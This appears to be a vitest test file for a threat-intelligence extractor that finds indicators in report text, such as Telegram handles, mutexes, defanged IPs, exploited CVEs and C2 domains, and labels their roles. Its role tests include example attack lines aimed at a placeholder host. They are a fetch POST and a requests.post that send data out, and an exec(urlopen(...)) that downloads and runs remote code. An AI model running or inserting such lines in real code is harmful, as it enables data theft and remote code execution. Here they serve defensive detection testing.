import { processorClock } from "@cti/testing/processor-clock";
import { expect, test } from "vitest";

import type { Mention } from "../entities/mention.ts";
import { blocksOfText } from "../html/blocks.ts";
import { findIndicators } from "./find-indicators.ts";
import { registrableOf } from "./suffixes.ts";

function find(text: string): Mention[] {
  return findIndicators(text, blocksOfText(text), { ownHosts: new Set(), benign: null });
}

const found = (text: string): string[] => find(text).map(({ type, value }) => `${type} ${value}`);
const roles = (text: string): (string | null)[] => find(text).map(({ role }) => role);

test.each([
  ["The seller, @darkvendor_x, offers access.", ["telegram @darkvendor_x"]],
  ["Contact: @lockhelp77", ["telegram @lockhelp77"]],
  ["Updates appear in their channel @leakbase_news.", ["telegram @leakbase_news"]],
  ["Follow our seller guide on Twitter: @bleepin", []],
  ["The maintainer's GitHub handle is @octocat12.", []],
  ["The researcher @malwrhunter described the bot.", []],
  ["Buyers wrote. Thanks, @malwrhunter.", []],
  ["The bot ignores the @media rule.", []],
])("handles in %j", (text, expected) => {
  expect(found(text)).toEqual(expected);
});

test.each([
  ['{"mutex": "WXS_7f20c1d4ab"}', ["mutex WXS_7f20c1d4ab"]],
  ['{"mutexes": ["WXS_7f20c1d4ab"]}', ["mutex WXS_7f20c1d4ab"]],
  ["mutex_name = WXS_7f20c1d4ab", ["mutex WXS_7f20c1d4ab"]],
  ["El mutex de Remcos es Rmc-A7JX2P.", ["mutex Rmc-A7JX2P"]],
  ["Le mutex utilisé est ZZ_8812.", ["mutex ZZ_8812"]],
  ["Der Mutex lautet RQ81-x.", ["mutex RQ81-x"]],
  ["The mutex prevents two copies.", []],
  ["The mutex is a 16-character string.", []],
])("mutexes in %j", (text, expected) => {
  expect(found(text)).toEqual(expected);
});

test.each([
  ["It talks to 185 . 225 . 73 . 96 on port 443.", ["ipv4 185.225.73.96"]],
  ["It talks to 185 [.] 225 . 73 [.] 96 daily.", ["ipv4 185.225.73.96"]],
  ["Points 1 . 2 . 3 . 4 and 300 . 1 . 2 . 3", []],
  ["Sums of 185 . 225 . 73 were paid.", []],
])("spaced addresses in %j", (text, expected) => {
  expect(found(text)).toEqual(expected);
});

test("the place of a spaced address is that of all it was written with", () => {
  expect(find("to 185 . 225 . 73 . 96.")[0]?.matched).toBe("185 . 225 . 73 . 96");
});

test.each([
  ["CVE-2024-1709 is exploited in the wild together with CVE-2024-1708.", 2],
  ["The authentication bypass (CVE-2024-1709) was used together with CVE-2024-1708.", 2],
  ["Attackers used an authentication bypass (CVE-2024-1709) in the gateway and CVE-2024-1708.", 2],
  ["CVE-2024-21893 was used to plant a webshell.", 1],
  ["El grupo explota CVE-2024-3333 en servidores.", 1],
  ["La falla CVE-2024-4444 è stata sfruttata.", 1],
  ["A falha CVE-2024-6666 foi explorada por atacantes.", 1],
  ["They exploited the flaw CVE-2024-7777, which allows code execution.", 1],
  ["CVE-2024-1212 is not known to be exploited in the wild.", 0],
  ["Vulnerabilities used: CVE-2024-1111, CVE-2024-1112", 2],
  ["CVE-2023-1111 leaks memory. Together with CVE-2025-2222 it was used against a firm.", 2],
  ["The update fixes CVE-2024-1212 and CVE-2024-1213.", 0],
  ["CVE-2025-1003, which was exploited, and CVE-2025-1004 are fixed.", 1],
])("the flaws in %j that were exploited", (text, count) => {
  expect(roles(text).filter((role) => role === "exploited")).toHaveLength(count);
});

test.each([
  ["evil-a[.]com - loader C2", "c2"],
  ["The malware asks for a TXT record of evil-a[.]com.", "c2"],
  ["If no record is returned it uses evil-a[.]com.", "c2"],
  ["It talks MQTT to evil-a[.]com.", "c2"],
  ["The implant called 185.225.73.96:8443 every day.", "c2"],
  ["# C2\n\nThe bot resolves evil-a[.]com at start.", "c2"],
  ['{"hosts": ["evil-a.com"]}', "c2"],
  ['{"hosts": ["10.0.0.1", "evil-a.com"]}', "c2"],
  ['fetch("https://evil-a.com/x", {method: "POST", body: d})', "exfiltration"],
  ['fetch("https://evil-a.com/x").then(run)', "delivery"],
  ['requests.post("https://evil-a.com/c", data=x)', "exfiltration"],
  ['exec(urlopen("https://evil-a.com/p").read())', "delivery"],
  ["It was sent through malvertising to hxxps://evil-a[.]com/dl.", "delivery"],
  ["The link hxxps://evil-a[.]com/p was received on WhatsApp.", "phishing"],
  ["# IOCs\n\n- hxxps://evil-a[.]com/up.ps1", "delivery"],
  ["# IOCs\n\n- hxxps://evil-a[.]com/gate", null],
  ["Contact the author: jane.doe@somelab.com", "reference"],
])("the last role in %j is %s", (text, role) => {
  expect(roles(text).at(-1)).toBe(role);
});

test.each([
  "## 3.7.2.1\n\nFixes bugs.",
  "# Changelog\n\n## 3.7.2.1\n\nFixes bugs.",
  "Release 3.7.2.1",
  "Set output.host to your server.",
  "The npm package express-cookie-parse.js steals cookies.",
  "import discord.py",
  "It packs with zip, tar.gz and tar.xz.",
])("%j holds no indicator", (text) => {
  expect(found(text)).toEqual([]);
});

test("an address in a heading stays one", () => {
  expect(found("## 185.225.73.96\n\nA server.")).toEqual(["ipv4 185.225.73.96"]);
});

test("who wrote the text and what is said to be unaffected is only mentioned", () => {
  const statuses = (text: string): string[] => find(text).map(({ status }) => status);
  expect(statuses("Reporter: Jane Doe, jane@newslab.com")).toEqual(["mentioned"]);
  expect(statuses("The attackers' target pay-shop.com was not affected.")).toEqual(["mentioned"]);
  expect(statuses("Ni pay-shop.com ni other-shop.com fueron comprometidos.")).toEqual([
    "mentioned",
    "mentioned",
  ]);
});

test.each([
  ["www.x.com.br", "x.com.br"],
  ["x.com.br", "x.com.br"],
  ["com.br", null],
])("%j was registered as %j", (host, expected) => {
  expect(registrableOf(host)).toBe(expected);
});

test("no hostile text holds the new readers up", () => {
  const units = [
    "1 . 1 . ",
    "185 . 225 . 73 . ",
    "@abcdef ",
    "contact @abcdef ",
    "mutex of A ",
    '"mutex": ',
    '"hosts": ["a.com", ',
    "CVE-2024-1234 (",
    "a-b.com ni ",
    "package a.js ",
    "author: a@b.com ",
    "loader c2 ",
  ];
  const spent = processorClock();
  for (const unit of units) find(unit.repeat(Math.ceil(100_000 / unit.length)));
  expect(spent()).toBeLessThan(10_000);
});
